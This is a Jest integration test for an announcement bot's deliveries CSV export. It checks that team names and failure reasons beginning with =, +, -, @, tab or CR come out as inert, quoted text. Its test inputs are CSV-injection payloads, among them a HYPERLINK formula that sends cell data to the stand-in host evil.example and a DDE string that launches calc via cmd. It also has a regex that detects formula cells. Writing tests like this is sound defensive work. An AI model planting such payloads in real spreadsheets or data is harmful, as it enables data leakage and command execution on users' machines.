import { parse } from 'csv-parse/sync';
import { deliveriesCsv } from '../../../../bot/src/features/announcements/csv';
import type { Announcement } from '../../../../bot/src/api/announcements-contract';
import type { RunningApp } from '../../../../bot/src/main';
import * as A from '../../../support/activities';
import { apiClient } from '../../../support/api-client';
import { postActivity, startTestApp } from '../../../support/app';
import { SimulatedConnector } from '../../../support/teams-connector';

jest.setTimeout(60_000);

/** Cells a spreadsheet program would run as a formula (OWASP CSV injection). */
const FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const NUMBER = /^-?\d+(\.\d+)?$/;

/**
 * Anyone can create a team and name it; its name becomes a delivery label in the announcer's CSV.
 * Over HTTP against Azurite: the names reach the CSV, inert.
 */
describe('announcement deliveries CSV', () => {
  let app: RunningApp;
  let connector: SimulatedConnector;
  const installer = A.testUser('Team Owner');
  const names = ['=HYPERLINK("https://evil.example/?"&A1,"Klick")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tTab', '\rCR'];
  const teams = names.map((name, i) => ({ id: `19:team-${i}@thread.tacv2`, name }));

  beforeAll(async () => {
    connector = await new SimulatedConnector({ faultRate: 0, seed: 1 }).start();
    app = await startTestApp({ DEV_ROLES: 'announcer' });
    for (const t of teams) await postActivity(app, A.teamInstall(t, installer, { serviceUrl: connector.url }));
  });
  afterAll(async () => {
    await app.stop();
    await connector.stop();
  });

  const api = apiClient(() => app);

  it('trust 17: a delivery label or failure reason starting with = + - @ tab or CR is written inert; attempts stay numbers', () => {
    const rows: string[][] = parse(deliveriesCsv(names.map((n) => ({ label: n, kind: 'channel', state: 'failed', status: 502, reason: n, at: '2025-01-01', attempts: 3 })), 'de'), { bom: true });
    const bad = rows.flat().filter((c) => FORMULA.test(c) && !NUMBER.test(c));
    expect({ bad, labels: rows.slice(1).map((r) => r[0]), reasons: rows.slice(1).map((r) => r[4]), attempts: rows.slice(1).map((r) => r[6]) })
      .toEqual({ bad: [], labels: names.map((n) => `'${n}`), reasons: names.map((n) => `'${n}`), attempts: names.map(() => '3') });
  });

  it('trust 17: team names starting with = + - @ tab or CR never open a deliveries CSV cell as a formula', async () => {
    const input = { languages: 'de', de: { title: 'Hinweis', text: 'Text' }, author: '', acknowledge: false, audience: { allEmployees: false, teams: teams.map((t) => t.id), departments: [] } };
    const created = await api.post<Announcement>('/api/announcements', { id: 'csv', announcement: input });
    expect(created.status).toBe(201);
    expect((await api.post('/api/announcements/csv/send', { etag: created.body.etag })).status).toBe(202);
    const end = Date.now() + 30_000;
    while ((await api.get<Announcement>('/api/announcements/csv')).body.state !== 'sent' && Date.now() < end) await new Promise((r) => setTimeout(r, 200));

    const res = await api.get('/api/announcements/csv/deliveries.csv');
    const rows: string[][] = parse(res.text, { bom: true });
    const bad = rows.flat().filter((c) => FORMULA.test(c) && !NUMBER.test(c));
    expect({ bad, labels: rows.slice(1).map((r) => r[0]).sort() }).toEqual({ bad: [], labels: names.map((n) => `Team ${n}`).sort() });
  });
});
